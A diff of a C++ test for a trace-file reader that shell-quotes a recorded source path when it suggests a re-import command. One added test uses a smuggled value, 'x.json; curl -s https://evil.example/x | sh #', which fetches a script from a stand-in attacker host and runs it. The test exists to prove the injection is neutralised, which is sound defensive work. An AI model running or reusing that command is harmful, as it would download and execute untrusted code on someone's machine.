@@ -176,7 +176,14 @@ TEST(TraceIoTest, SchemaOneFilesAreRefusedWithTheRemedy) {
   // Text from the file never breaks the one line (found by fuzz_pb_reader).
   h.set_source_path("a\nb");
   ExpectOneLine(ReadBytes("schema1_newline.pb", Framed({&h, &body})), "schema1_newline.pb",
-                "reverie import a?b -o OUT.pb");
+                "import its source again (recorded as a?b; reverie import SOURCE -o OUT.pb)");
+  // Nor is it pasted into the command unquoted (issue 29, D31).
+  h.set_source_path("x.json; curl -s https://evil.example/x | sh #");
+  ExpectOneLine(ReadBytes("schema1_shell.pb", Framed({&h, &body})), "schema1_shell.pb",
+                "(reverie import 'x.json; curl -s https://evil.example/x | sh #' -o OUT.pb)");
+  h.set_source_path("it's.json");
+  ExpectOneLine(ReadBytes("schema1_quote.pb", Framed({&h, &body})), "schema1_quote.pb",
+                "(reverie import 'it'\\''s.json' -o OUT.pb)");
   absl::StatusOr<Trace> kept = ReadTrace(path, {.salvage = true});
   ASSERT_TRUE(kept.ok()) << kept.status();
   EXPECT_EQ(kept->events().gpu_activities_size(), 3);
